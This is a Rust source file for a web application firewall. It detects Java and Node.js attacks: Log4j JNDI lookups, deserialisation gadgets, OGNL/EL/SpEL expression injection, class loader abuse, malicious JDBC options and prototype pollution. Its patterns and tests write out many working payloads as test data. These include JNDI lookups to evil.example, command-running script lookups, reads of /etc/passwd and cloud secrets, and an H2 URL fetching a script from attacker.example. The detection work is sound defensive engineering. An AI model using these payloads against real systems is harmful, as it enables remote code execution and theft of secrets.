//! Java attacks: Log4j/JNDI lookups (including nested and case-changing obfuscation), sensitive
//! class and gadget names, serialised objects, OGNL/EL/SpEL expressions with method calls, class
//! loader manipulation; plus Node.js prototype pollution and server-side JavaScript.

use regex::bytes::Regex;

use super::{Patterns, Sink};
use crate::normalise::Variants;
use crate::rules::*;
use crate::settings::WafError;

pub(crate) struct Java {
    pub(super) patterns: Patterns,
    /// A JDK class by its full name (`java.io.StringReader`), and what follows it; see
    /// [`Java::scan_jdk_class`].
    jdk_class: Regex,
    names: Patterns,
    /// Gadget and keyword names looked for in base64-decoded tokens, case-insensitive; the
    /// first [`GADGETS`] entries are gadgets, the rest weaker keywords.
    encoded: aho_corasick::AhoCorasick,
}

/// Class names of deserialisation gadget chains (Commons Collections, XMLDecoder, and
/// `ProcessBuilder`) that no ordinary value carries, base64-encoded or not; the function
/// marker of node-serialize (`_$$ND_FUNC$$_`), whose objects run code when read back and
/// travel base64-encoded in cookies too; the .NET gadgets of ViewState and BinaryFormatter
/// payloads; and the pickle opcodes
/// that import a command runner (`cos\nsystem`, protocol 4's `\x8c\x05posix`).
const GADGETS: &[&[u8]] = &[
    b"_$$nd_func$$_",
    b"typeconfusedelegate",
    b"objectdataprovider",
    b"textformattingrunproperties",
    b"system.diagnostics.process",
    b"delegateserializationholder",
    b"comparisoncomparer",
    b"activitysurrogateselector",
    b"axhoststate",
    b"axhost+state",
    b"cos\nsystem",
    b"cposix\nsystem",
    b"cnt\nsystem",
    b"csubprocess\n",
    b"cbuiltins\neval",
    b"c__builtin__\neval",
    b"\x8c\x05posix",
    b"\x8c\x02nt\x94",
    b"\x8c\nsubprocess",
    b"processbuilder",
    b"clonetransformer",
    b"forclosure",
    b"instantiatefactory",
    b"instantiatetransformer",
    b"invokertransformer",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"whileclosure",
    b"xmldecoder",
];

/// Classes of Ruby's deserialisation gadget chains (lower case): the RubyGems classes of the
/// universal Marshal chain and its variants, and ActiveSupport's proxy that renders an ERB
/// template when read back. Found in base64 as [`GADGETS`] are, and named by class hints.
pub(crate) const RUBY_GADGETS: &[&[u8]] = &[
    b"deprecatedinstancevariableproxy",
    b"gem::installer",
    b"gem::package::tarreader",
    b"gem::requestset",
    b"gem::requirement",
    b"gem::specfetcher",
    b"gem::stubspecification",
    b"net::bufferedio",
    b"net::writeadapter",
];

/// Weaker words, flagged in base64 only from paranoia 3.
const KEYWORDS: &[&[u8]] = &[b"runtime", b"getproperty", b"filewriter"];

/// Base64 without padding that keeps the bits after a fragment's last whole byte (a token cut
/// out of a longer stream rarely ends on a group boundary).
pub(super) const LENIENT: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::RequireNone),
);

/// Shortest base64 token decoded for the keywords: 10 characters carry 7 bytes, as many as
/// the shortest keyword.
const MIN_TOKEN: usize = 10;

/// Shortest token decoded for the gadget names alone (10 bytes at least).
const MIN_GADGET_TOKEN: usize = 13;

impl Java {
    pub(crate) fn new() -> Result<Self, WafError> {
        let patterns = Patterns::new(&[
            (JAVA_JNDI, r"\$\{[^}]{0,60}\$\{"),
            // H2 runs `INIT` scripts (`RUNSCRIPT FROM 'http://...'`); MySQL Connector/J
            // deserialises with `autoDeserialize` and reads local files with
            // `allowLoadLocalInfile`; socket and logger factories load classes.
            (
                JAVA_JDBC,
                r"jdbc:[a-z0-9]+:[^\s'\x22]*(?:;\s*init\s*=|[?&;:](?:autodeserialize|allowloadlocalinfile|allowurlinlocalinfile|socketfactory|socketfactoryarg|sslfactory|loggerlevel|loggerfile|queryinterceptors|statementinterceptors|[a-z]*jndiname)\s*=)",
            ),
            // Lookups that fetch, that spell `jndi` out piece by piece, or that read the
            // environment's secrets. A log4j2.xml's own `${sys:catalina.base}` and
            // `${date:yyyy-MM-dd}` are configuration; lookups inside lookups count above.
            (
                JAVA_JNDI,
                r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|ctx|base64|env)\s*:(?:[^-]|$)",
            ),
            // Apache Commons Text's interpolator (CVE-2022-42889): `${script:javascript:…}`
            // runs code, `${url:UTF-8:http://…}` fetches and `${file:UTF-8:/etc/…}` reads. A
            // script engine or a charset between two colons is what no `${file:…}` reference of
            // a configuration file has (Kafka's `${file:connect.properties:db.password}`).
            (
                JAVA_JNDI,
                r"\$\{\s*(?:script\s*:\s*(?:javascript|js|groovy|nashorn|jexl|python|jython|ruby|jruby|bsh|beanshell)|(?:url|file)\s*:\s*(?:utf-?8|utf-?16[a-z]*|us-ascii|ascii|iso-?8859-[0-9]+|latin-?1|windows-125[0-9]))\s*:",
            ),
            (
                JAVA_JNDI,
                r"\bjndi\s*:\s*(?:ldap|ldaps|rmi|dns|iiop|corba|nds|nis|http)s?:",
            ),
            (
                JAVA_CLASS,
                r"\b(?:com\.opensymphony\.xwork2|com\.sun\.org\.apache|org\.omg\.corba|java\.(?:lang\.)?(?:runtime|processbuilder)\b|processbuilder|processimpl|runtime\s*\.\s*getruntime|getruntime\s*\(|invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|instantiatefactory|templatesimpl|jdbcrowsetimpl|unicastref|unicastremoteobject|scriptenginemanager|urlclassloader|bytearrayinputstream|objectinputstream|xstream|org\.apache\.commons\.collections|org\.apache\.xalan|org\.springframework\.(?:context\.support\.(?:classpath|filesystem)xmlapplicationcontext|beans\.factory\.objectfactory|transaction\.jta\.jtatransactionmanager|core\.serializabletypewrapper|expression\.)|org\.codehaus\.groovy|com\.mchange\.v2|bsh\.interpreter|java\.lang\.reflect|sun\.misc\.unsafe|objectdataprovider|typeconfusedelegate|textformattingrunproperties|clr-namespace:system\.diagnostics|system\.diagnostics\.process\b|delegateserializationholder|comparisoncomparer|activitysurrogateselector|axhost\+?state)",
            ),
            (JAVA_CLASS, r#"["']@type["']\s*:\s*["'][a-z]"#),
            // MBean operations that load code or configuration from a URL, or write where a
            // server serves (through Jolokia): logback's `reloadByURL`, MLet's
            // `getMBeansFromURL`, the JVM's `jvmtiAgentLoad` and `compilerDirectivesAdd`.
            (
                JAVA_CLASS,
                r"\b(?:reloadbyurl|getmbeansfromurl|jvmtiagentload|compilerdirectivesadd)\b",
            ),
            // Java's serialisation stream (`rO0AB`, `aced0005`, gzipped), and .NET
            // BinaryFormatter's header in base64 (`AAEAAAD/////`).
            (
                JAVA_DESERIALISATION,
                r"\bro0ab|\baced0005|\\xac\\xed\\x00\\x05|\xac\xed\x00\x05|\bh4siaaaaaaaa[a-z0-9+/]{0,8}ro0|\baaeaaad/////",
            ),
            (JAVA_EXPRESSION, r"%\{[^}]{0,200}(?:\(|@|#|\bnew\s)"),
            // Groovy runs a string, or a list of strings, as a command line
            // (`'id'.execute().text`, `def p = "id".execute(); p.text`, `['sh', '-c',
            // 'id'].execute()`); a call's result executed (`stmt.execute();`) is no string.
            (
                JAVA_EXPRESSION,
                r#"['"]\s*\)?\s*\.\s*execute\s*\(\s*\)\s*\.\s*(?:text|in|waitfor|inputstream|waitforprocessoutput|consumeprocessoutput)\b|['"]\s*\]?\s*\.\s*execute\s*\(\s*\)"#,
            ),
            (JAVA_EXPRESSION, r"#\{[^}]{0,200}\("),
            // `${…}` with a method called on something (`${x.getClass()}`), a call's result
            // used (`${f(a).b}`, `${Function('x')()}`), a call inside a call or an escape in
            // its arguments (`\u0028`), a function (`=>`), an object made or a type named. One
            // call of a name on names and literals (`${formatDateTime(due, 'yyyy')}`,
            // `${lookup(var.tags, "env")}`) is the templating of Adaptive Cards, Terraform
            // and JavaScript, which EL does not even parse (its functions take a prefix).
            (
                JAVA_EXPRESSION,
                r"\$\{[^{}][^}]{0,199}(?:[a-z0-9_\]'\x22]\s*\.\s*[a-z_$][a-z0-9_$]*\s*\(|\)\s*[.\[(]|\([^)}]*[(\\]|=>|\bnew\s|@java|\bt\s*\()",
            ),
            (
                JAVA_EXPRESSION,
                r"#_memberaccess|@ognl|\bognlcontext\b|#context\s*\[|#(?:request|session|application|parameters|attr)\s*\[|\bt\s*\(\s*java\.|@java\.lang\.|\.getclass\s*\(\s*\)|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\.newinstance\s*\(|\.getdeclared(?:method|field|constructor)s?\s*\(",
            ),
            (
                JAVA_CLASSLOADER,
                r"\bclass\s*\.\s*(?:module\s*\.\s*)?classloader\b|\[\s*['\x22]?class['\x22]?\s*\]\s*\[\s*['\x22]?(?:module|classloader)|\.getclassloader\s*\(|\bclassloader\s*\.\s*(?:resources|urls|parent)",
            ),
            (
                NODE_PROTOTYPE,
                r"__proto__|\bconstructor\s*\]?\s*(?:\.|\[\s*['\x22]?)\s*prototype\b",
            ),
            (
                NODE_INJECTION,
                // Node's globals read through brackets, with a name or with a value from elsewhere
                // (`process["env"]`, `require[req.query.a]`).
                r"\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|kill|exit|dlopen)\b|\b(?:process|require|globalthis|global|module)\s*\[\s*['\x22`]\s*(?:mainmodule|binding|env|kill|exit|dlopen|constructor|require|process)\b|\b(?:process|require|globalthis|global|module)\[\s*[a-z_$][a-z0-9_$.]*\s*(?:\]|$)|\brequire\s*\(\s*['\x22`](?:child_process|fs|net|vm|os|http|cluster|worker_threads)['\x22`]|\bglobal\s*\.\s*process\b|\bthis\s*\.\s*constructor\s*\.\s*constructor\b|\bnew\s+function\s*\(|\bmodule\s*\.\s*(?:constructor|require)\b",
            ),
            (
                NODE_INJECTION,
                // A loop whose condition is a constant (literals, constructors, `new Date`,
                // behind any `!`, `+`, `-`, `~` and brackets) never ends: `while(!-0)`,
                // `while(!!{})`, `while(new Date)`, `for(;;)`. So do allocations sized to
                // exhaust memory.
                r"\bwhile\s*\(\s*(?:[!+\-~(]\s*)*(?:true|false|null|undefined|nan|infinity|[0-9]+(?:\.[0-9]+)?|\x22\x22|''|``|\{\s*\}|\[\s*\]|new\s+[a-z_$][a-z0-9_$]*(?:\s*\(\s*\))?|string|number|object|array|boolean|date|symbol|function)\s*(?:\)\s*)*\)|\bfor\s*\(\s*;\s*;\s*\)|\bbuffer\s*\(\s*[0-9]{6,}|\.repeat\s*\(\s*[0-9]{7,}",
            ),
            (JAVA_LOOKUP_LOOSE, r"\$\{[a-z:-]{1,30}|%\{[a-z]|#\{[a-z]"),
        ])?;
        let names = Patterns::new(&[(NODE_PROTOTYPE, r"^(?:__proto__|prototype)$")])?;
        let encoded = aho_corasick::AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(GADGETS.iter().chain(RUBY_GADGETS).chain(KEYWORDS))
            .map_err(|e| WafError::Pattern(e.to_string()))?;
        let jdk_class = Regex::new(
            r"(?-u)\b(?:java|javax|jdk|sun|com\.sun)\.(?:lang|io|net|nio|util|beans|rmi|security|sql|script|naming|management|xml|reflect|misc|invoke)\.([a-z0-9_$.]*)(\((?:[a-z0-9_.$@-]+/)?(?:[a-z0-9_$]*\.java:[0-9]+|native method|unknown source)\))?",
        )
        .map_err(|e| WafError::Pattern(e.to_string()))?;
        Ok(Self {
            patterns,
            jdk_class,
            names,
            encoded,
        })
    }

    /// A class of the JDK named in full, as expressions and gadgets need them
    /// (`java.io.StringReader`, `java.lang.Runtime`), except where a log line or an error
    /// report names one: an exception or error class (`java.lang.NullPointerException`), or a
    /// stack frame (`java.lang.Thread.run(Thread.java:833)`), which log-ingest and
    /// error-tracking APIs carry all day. The gadget pattern still flags `Runtime`,
    /// `ProcessBuilder` and the like anywhere.
    fn scan_jdk_class(&self, text: &str, sink: &mut Sink<'_>) {
        if !sink.wants(JAVA_CLASS) || !(text.contains("java") || text.contains("sun.")) {
            return;
        }
        for caps in self.jdk_class.captures_iter(text.as_bytes()).take(16) {
            let (Some(whole), Some(name)) = (caps.get(0), caps.get(1)) else {
                continue;
            };
            let class = name.as_bytes();
            let class = class.strip_suffix(b".").unwrap_or(class);
            let frame = caps.get(2).is_some();
            let diagnostic = class.ends_with(b"exception")
                || class.ends_with(b"error")
                || class.ends_with(b"throwable")
                // A thread dump's `java.lang.Thread.State: RUNNABLE` and the locks it names
                // (`- locked <0x…> (a java.util.concurrent.locks.ReentrantLock)`).
                || class == b"thread.state"
                || text[..whole.start()].ends_with("(a ")
                || in_signature(text, whole.start(), whole.end());
            if !class.is_empty() && !frame && !diagnostic {
                sink.hit(JAVA_CLASS, text, whole.start());
                return;
            }
        }
    }

    pub(crate) fn scan(&self, v: &Variants, sink: &mut Sink<'_>, lower_may_match: bool) {
        if lower_may_match {
            self.patterns.scan(v.code(), sink);
        }
        self.scan_jdk_class(v.lower(), sink);
        // 80 bits of the shortest gadget name need 14 base64 characters, 56 bits of the
        // shortest keyword 10 (one less for slack at the edges).
        if sink.wants(JAVA_BASE64_KEYWORD) {
            self.scan_base64(v.norm(), sink, MIN_TOKEN);
        } else if sink.wants(JAVA_BASE64_GADGET) {
            self.scan_base64(v.norm(), sink, MIN_GADGET_TOKEN);
        }
        // Lookups hidden by case tricks and empty defaults: `${${::-j}${::-n}di:` → `jndi:`.
        if sink.wants(JAVA_JNDI) && v.lower().contains("${") {
            let flat = flatten_lookups(v.lower());
            if flat.contains("jndi:") {
                sink.hit(JAVA_JNDI, v.lower(), v.lower().find("${").unwrap_or(0));
            }
        }
    }

    /// Gadget names inside base64 tokens (serialised objects travel encoded). Each token of
    /// at least `min_token` base64 characters (standard or URL-safe alphabet) is decoded at
    /// its four alignments, since the name may start anywhere in the encoded stream.
    fn scan_base64(&self, text: &str, sink: &mut Sink<'_>, min_token: usize) {
        use base64::Engine as _;
        let mut buf = Vec::new();
        let mut chunk = Vec::new();
        for (start, token) in super::base64_tokens(text) {
            // Base64 of text mixes upper and lower case; a word in one case (`programming`,
            // `ISBN0131103628`) is not worth four decodes.
            if token.len() < min_token
                || !token.iter().any(u8::is_ascii_uppercase)
                || !token.iter().any(u8::is_ascii_lowercase)
            {
                continue;
            }
            for skip in 0..4 {
                // A final group of one character carries no whole byte.
                let rest = token.len() - skip;
                let usable = if rest % 4 == 1 { rest - 1 } else { rest };
                chunk.clear();
                super::standard_base64(&token[skip..skip + usable], &mut chunk);
                buf.clear();
                if LENIENT.decode_vec(&chunk, &mut buf).is_err() {
                    continue;
                }
                for m in self.encoded.find_overlapping_iter(&buf) {
                    let rule = if m.pattern().as_usize() < GADGETS.len() + RUBY_GADGETS.len() {
                        JAVA_BASE64_GADGET
                    } else {
                        JAVA_BASE64_KEYWORD
                    };
                    sink.hit(rule, text, start);
                }
            }
        }
    }

    /// Upload headers (`X-Filename` and its spellings): a Java server page, with the spaces and
    /// trailing dots some servers drop (`shell. jsp`, `a.jspx..`).
    pub(crate) fn scan_upload_header(&self, label: &str, v: &Variants, sink: &mut Sink<'_>) {
        if !super::upload_header(label) {
            return;
        }
        let name = super::stored_file_name(v);
        if let Some((_, ext)) = name.rsplit_once('.')
            && matches!(ext, "jsp" | "jspx" | "jspf")
        {
            sink.hit(JAVA_UPLOAD, &name, 0);
        }
    }

    /// Names (JSON keys, parameter names): prototype pollution through nested keys.
    pub(crate) fn scan_name(&self, v: &Variants, sink: &mut Sink<'_>) {
        self.names.scan(v.lower(), sink);
    }
}

/// Removes lookup syntax (`${`, `}`, `lower:`, `upper:`, `::-`, `env:x:-`) so nested Log4j
/// lookups read as the word they spell. Single pass, output never longer than input.
fn flatten_lookups(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while !rest.is_empty() {
        if let Some(r) = rest.strip_prefix("${") {
            // Drop a function prefix like `lower:`, `upper:`, `::-`, `env:name:-`.
            let end = r.find(['}', '$']).unwrap_or(r.len());
            let inner = &r[..end];
            let keep_from = inner
                .rfind(":-")
                .map(|i| i + 2)
                .or_else(|| inner.rfind(':').map(|i| i + 1))
                .unwrap_or(0);
            if inner[..keep_from].contains("jndi") {
                out.push_str("jndi:");
            }
            out.push_str(&inner[keep_from..]);
            rest = &r[end..];
        } else if let Some(r) = rest.strip_prefix('}') {
            rest = r;
        } else {
            let mut chars = rest.chars();
            if let Some(c) = chars.next() {
                out.push(c);
            }
            rest = chars.as_str();
        }
    }
    out
}

/// A JDK class at `start..end` of `text` as a JVM message writes a member's signature:
/// `'java.lang.String android.content.Context.getPackageName()'` (the return type, a
/// space and a qualified member) or `'int java.lang.Integer.intValue()'` (a type and a space
/// after the quote). Android's null-pointer messages quote every call that failed.
fn in_signature(text: &str, start: usize, end: usize) -> bool {
    let member = |s: &str| {
        let name: &str = s
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '.'))
            .next()
            .unwrap_or("");
        name.contains('.') && name.starts_with(|c: char| c.is_ascii_alphabetic())
    };
    let returns = text[end..].strip_prefix(' ').is_some_and(member);
    let owner = text[..start].strip_suffix(' ').is_some_and(|b| {
        let ty = b.rsplit('\'').next().unwrap_or("");
        b.len() > ty.len()
            && !ty.is_empty()
            && ty
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || b"_$.[]".contains(&c))
    });
    returns || owner
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{families, flags, hits, rule, silent};
    use crate::extract::Kind;

    #[test]
    fn finds_gadget_names_in_base64_at_any_alignment() {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD_NO_PAD;
        for plain in [
            "invokertransformer",
            "xProcessBuilder",
            "ab.whileclosure.c",
            "\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy",
            "{\"u\":\"_$$ND_FUNC$$_function(){}()\"}",
        ] {
            // The name at each of the three byte offsets of a base64 group.
            for prefix in ["", "a", "ab"] {
                let enc = b64.encode(format!("{prefix}{plain}"));
                assert!(
                    hits(Kind::Value, "query:q", &enc, 1).contains(&JAVA_BASE64_GADGET),
                    "{plain} {prefix} {enc}"
                );
            }
            // A fragment of a longer stream: its first characters cut off inside what
            // precedes the name.
            let enc = b64.encode(format!("rO0ABXNy{plain}"));
            for cut in 1..4 {
                let text = &enc[cut..];
                assert!(
                    hits(Kind::Value, "query:q", text, 1).contains(&JAVA_BASE64_GADGET),
                    "{plain} {text}"
                );
            }
        }
        // URL-safe alphabet, and in a cookie name.
        let enc =
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode("\u{fb}\u{ff}processbuilder");
        assert!(hits(Kind::CookieName, "cookie-name", &enc, 1).contains(&JAVA_BASE64_GADGET));
        // Weak keywords only from paranoia 3; ordinary base64 and long words stay silent.
        let runtime = b64.encode("java runtime");
        assert!(!hits(Kind::Value, "query:q", &runtime, 2).contains(&JAVA_BASE64_KEYWORD));
        assert!(hits(Kind::Value, "query:q", &runtime, 3).contains(&JAVA_BASE64_KEYWORD));
        for benign in [
            b64.encode("{\"sub\":\"1234567890\",\"name\":\"John Doe\"}"),
            "Springfield".to_owned(),
            "internationalisation".to_owned(),
        ] {
            let h = hits(Kind::Value, "query:q", &benign, 4);
            assert!(
                !h.contains(&JAVA_BASE64_GADGET) && !h.contains(&JAVA_BASE64_KEYWORD),
                "{benign}"
            );
        }
    }

    #[test]
    fn detects_server_pages_in_upload_headers() {
        rule(
            JAVA_UPLOAD,
            true,
            Kind::OtherHeader,
            "header:x-filename",
            1,
            &["a.jsp", "B.JSPX", "shell. jsp", "a.jspx..", "foo.jspf."],
        );
        assert!(hits(Kind::OtherHeader, "header:x-file-name", "x.jsp", 1).contains(&JAVA_UPLOAD));
        assert!(
            !hits(Kind::OtherHeader, "header:x-filename", "report.json", 1).contains(&JAVA_UPLOAD)
        );
        assert!(!hits(Kind::OtherHeader, "header:x-note", "a.jsp", 1).contains(&JAVA_UPLOAD));
    }

    #[test]
    fn logging_configuration_lookups() {
        silent(
            "java",
            &[
                "<Property name=\"logs\">${sys:catalina.base}/logs</Property>",
                "filePattern=\"app-${date:yyyy-MM-dd}.log.gz\"",
            ],
        );
        flags(
            "java",
            &[
                "${env:AWS_SECRET_ACCESS_KEY}",
                "${${env:x:-j}ndi:ldap://x/a}",
                "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
                "${url:UTF-8:http://198.51.100.7/x}",
                "${file:utf-8:/etc/passwd}",
            ],
        );
        // Configuration references with no engine or charset segment.
        silent(
            "java",
            &[
                "${file:secrets/token.txt}",
                "password: ${file:/run/secrets/db}",
                "${file:connect.properties:db.password}",
            ],
        );
    }

    #[test]
    fn stack_frames_are_no_calls() {
        silent(
            "java",
            &[
                "[\"java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\", \"java.lang.Runtime.exec(Runtime.java:614)\"]",
                "\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)\n\tat x.Y.z(Y.java:1)",
                "   java.lang.Thread.State: RUNNABLE\n\tat sun.nio.ch.EPoll.wait(java.base@17.0.10/Native Method)",
                "\t- parking to wait for <0x00000000c1e2a3b8> (a java.util.concurrent.locks.AbstractQueuedSynchronizer$ConditionObject)",
            ],
        );
        flags(
            "java",
            &[
                "T(java.lang.Runtime).exec(x.java:1)",
                "@java.lang.Runtime@getRuntime().exec(a.java:1)",
            ],
        );
    }

    #[test]
    fn detects_java_attacks() {
        flags(
            "java",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:ldap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                "java.lang.Runtime",
                "java.Runtime",
                "System.DelegateSerializationHolder",
                "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.5!/logback.xml",
                "jdbc:db2://192.0.2.17:50000/BLUDB:clientRerouteServerListJNDIName=ldap://198.51.100.3:1389/evil;",
                "System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector",
                "System.Windows.Forms.AxHost+State",
                "System.Collections.Generic.ComparisonComparer`1[[System.String, mscorlib]]",
                "com.opensymphony.xwork2.ActionContext",
                "org.omg.CORBA.ORB",
                "com.sun.org.apache.xalan.internal",
                "ProcessBuilder.evil.instantiatetransformer",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                "${env:AWS_SECRET_ACCESS_KEY}",
                "${\"\".getClass().forName(\"java.lang.Runtime\")}",
                "${pageContext.request.getSession()}",
                "${f(x).y}",
                "${x(y('id'))}",
                "${(()=>{while(1){}})()}",
                "${Function('return process')()}",
                "${evaluate(\"'id'.execute\\u0028\\u0029\")}",
                "${new java.io.File('/')}",
            ],
        );
        // A shell's default (`${ENV:-staging}`) and a GitHub Actions expression are not
        // lookups or EL.
        crate::detect::testing::silent(
            "java",
            &[
                "-Dspring.profiles.active=${ENV:-staging}",
                "deps-${{ hashFiles('**/package-lock.json') }}",
                // One call of a name on names and literals: Adaptive Cards' and Terraform's
                // templates.
                "Due ${formatDateTime(dueDate, 'yyyy-MM-dd')}",
                "${lookup(var.tags, \"env\")}",
            ],
        );
    }

    #[test]
    fn detects_prototype_pollution() {
        assert!(families("__proto__[admin]=1").contains(&"node"));
        assert!(families("constructor[prototype][x]=1").contains(&"node"));
        assert!(
            hits(
                Kind::Name,
                "query:filter",
                "filter[constructor][prototype][admin]",
                1
            )
            .contains(&NODE_PROTOTYPE)
        );
        assert!(families("require('child_process').exec('id')").contains(&"node"));
        assert!(families("throw new Exception('id'.execute().text);").contains(&"java"));
        for run in [
            "def p = \"id\".execute(); p.text",
            "['sh', '-c', 'id'].execute()",
            "x = 'uname -a'.execute()\nprintln x.text",
        ] {
            assert!(families(run).contains(&"java"), "{run}");
        }
        for fine in [
            "cursor.execute(); rows = cursor.fetchall()",
            "stmt.execute()",
            "'SELECT 1'.execute",
            "tasks[i].execute();",
            "conn.prepareStatement(\"TRUNCATE t\").execute();",
            "service.users().messages().list(userId='me').execute()",
        ] {
            assert!(!families(fine).contains(&"java"), "{fine}");
        }
        // Names split into concatenated strings are read joined.
        assert!(
            families("global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('chi'+'ld_pro'+'cess')")
                .contains(&"node")
        );
        assert!(families("(string) \"sys\".\"t\".\"em\" ('uname');").contains(&"php"));
        let joined = |t: &str| crate::detect::concatenation_joined(t);
        assert_eq!(joined("'proc' + 'ess'").as_deref(), Some("'process'"));
        assert_eq!(joined("'x' + \"y\" = z"), None);
        assert!(hits(Kind::Name, "json:/a/prototype", "prototype", 1).contains(&NODE_PROTOTYPE));
    }

    #[test]
    fn loops_that_never_end() {
        rule(
            NODE_INJECTION,
            true,
            Kind::Value,
            "query:eval",
            1,
            &[
                "while(!-0);",
                "while(!+0);",
                "while(!\"\");",
                "while(!``);",
                "while(Infinity);",
                "while(+1);",
                "while(new Date);",
                "while(String);",
                "while(!!{});",
                "while(!!'');",
                "while(!null)",
                "while(!undefined)",
                "while((true)))",
                "for(;;){}",
            ],
        );
        rule(
            NODE_INJECTION,
            false,
            Kind::Value,
            "query:text",
            1,
            &[
                "while (foo) is bar.",
                "while(i < 10) i++",
                "while (queue.length) next()",
                "Call me while (in the meantime) you wait",
            ],
        );
    }

    #[test]
    fn node_globals_through_brackets() {
        rule(
            NODE_INJECTION,
            true,
            Kind::Value,
            "query:foo",
            1,
            &[
                "process[\"env\"]",
                "process['mainModule']",
                "process[req.query.a",
                "require[req.query.a]",
                "global['process']",
            ],
        );
        rule(
            NODE_INJECTION,
            false,
            Kind::Value,
            "json:/text",
            1,
            &[
                "the process [1] step",
                "see process[0] in the table",
                "require [optional]",
            ],
        );
    }

    #[test]
    fn leaves_ordinary_text_alone() {
        for p in [
            "I like Java and coffee",
            "price is ${amount}",
            "#{hashtag} party",
            "the constructor of the house",
            "java.com",
        ] {
            let f = families(p);
            assert!(!f.contains(&"java") && !f.contains(&"node"), "{p}: {f:?}");
        }
        assert_eq!(flatten_lookups("${${lower:j}ndi:x}"), "jndi:x");
    }

    #[test]
    fn member_signatures_in_jvm_messages() {
        rule(
            JAVA_CLASS,
            false,
            Kind::Value,
            "json:/stacktrace",
            1,
            &[
                "java.lang.NullPointerException: Attempt to invoke virtual method 'java.lang.String android.content.Context.getPackageName()' on a null object reference",
                "Attempt to invoke virtual method 'int java.lang.Integer.intValue()' on a null object reference",
            ],
        );
        assert!(hits(Kind::Value, "query:x", "java.lang.ProcessBuilder", 1).contains(&JAVA_CLASS));
    }

    #[test]
    fn jdbc_options_and_other_runtimes_gadgets() {
        let h2 = "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://attacker.example/init.sql'";
        assert!(hits(Kind::Value, "json:/url", h2, 1).contains(&JAVA_JDBC));
        let mysql = "jdbc:mysql://db.example.com:3306/x?autoDeserialize=true&queryInterceptors=x";
        assert!(hits(Kind::Value, "json:/url", mysql, 1).contains(&JAVA_JDBC));
        assert!(
            !hits(
                Kind::Value,
                "json:/url",
                "jdbc:postgresql://db.example.com:5432/app?sslmode=require",
                1
            )
            .contains(&JAVA_JDBC)
        );
        use base64::Engine as _;
        let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
        for blob in [
            &b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"[..],
            b"\x04\x08[\x08c\x15Gem::SpecFetcherc\x13Gem::InstallerU:\x15Gem::Requirement",
            b"\0\x01\0\0\0\xff\xff\xff\xffSystem.Collections.Generic.SortedSet TypeConfuseDelegate",
        ] {
            assert!(
                hits(Kind::Value, "form:state", &b64(blob), 1).contains(&JAVA_BASE64_GADGET),
                "{blob:?}"
            );
        }
    }
}
